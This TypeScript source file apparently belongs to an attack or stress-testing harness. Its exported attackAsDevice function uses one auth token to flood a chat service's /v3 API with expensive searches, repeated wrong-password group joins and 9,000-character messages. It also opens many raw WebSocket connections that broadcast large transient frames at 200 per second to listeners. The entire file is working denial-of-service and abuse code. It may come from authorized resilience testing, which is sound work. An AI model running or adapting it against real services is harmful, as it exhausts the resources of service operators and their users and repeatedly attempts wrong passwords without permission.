import type { Socket } from 'node:net'
import { openRawDevice } from '../raw-device.ts'
import { type Call, flood } from './callers.ts'
import type { Attack, Tally } from './orders.ts'
import { paced } from './raw.ts'
import { get, post } from './tenant.ts'

const inFlight = 100
const sockets = 20
const transientPerSecond = 200

type Device = Extract<Attack, { by: 'device' }>

/** One auth token: expensive calls, wrong passwords, and transient messages to many listeners. */
export async function attackAsDevice(
  origin: string,
  seconds: number,
  { appId, authToken, guid, passwordGroup, listeners }: Device,
): Promise<Tally> {
  const until = performance.now() + seconds * 1000
  let heard = 0
  const open = (token: string) =>
    openRawDevice({
      origin,
      appId,
      auth: JSON.stringify({ type: 'auth', authToken: token }),
      onFrame: () => heard++,
      onClosed: () => undefined,
    })
  const listening = await Promise.allSettled(listeners.map(open))
  const own = await Promise.allSettled(Array.from({ length: sockets }, () => open(authToken)))
  const speaking = own.flatMap((one) => (one.status === 'fulfilled' ? [one.value] : []))
  const talk = talkOn(speaking, guid, until)
  const calls: readonly (() => Call)[] = [
    () => get('filter', `/v3/groups/${guid}/messages?hasLinks=true&limit=100`),
    () => get('users', '/v3/users?page=100&perPage=100&searchKey=h'),
    () => get('search', '/v3/messages?searchKey=zzzz&limit=100'),
    () => post('password', `/v3/groups/${passwordGroup}/members`, '{"password":"wrong"}'),
    () =>
      post(
        'send',
        '/v3/messages',
        JSON.stringify({
          receiver: guid,
          receiverType: 'group',
          category: 'message',
          type: 'text',
          data: { text: 'x'.repeat(9000) },
        }),
      ),
  ]
  const tally = await flood(
    origin,
    { appid: appId, authtoken: authToken },
    inFlight,
    until,
    (nth) => {
      const call = calls[nth % calls.length]
      if (!call) throw new Error('There is no such call.')
      return call()
    },
  )
  await talk
  for (const one of listening) if (one.status === 'fulfilled') one.value.destroy()
  for (const socket of speaking) socket.destroy()
  return { ...tally, 'frames heard by listeners': heard, 'sockets let in': speaking.length }
}

function talkOn(speaking: readonly Socket[], guid: string, until: number): Promise<void> {
  const frame = maskedText(
    JSON.stringify({
      type: 'transient',
      receiver: guid,
      receiverType: 'group',
      data: { pad: 'x'.repeat(5000) },
    }),
  )
  return paced(transientPerSecond, until, (nth) => {
    const socket = speaking[nth % speaking.length]
    if (socket?.writable) socket.write(frame)
  })
}

function maskedText(message: string): Buffer {
  const length = Buffer.byteLength(message)
  const header = Buffer.of(0x81, 0xfe, length >> 8, length & 255, 0, 0, 0, 0)
  return Buffer.concat([header, Buffer.from(message)])
}
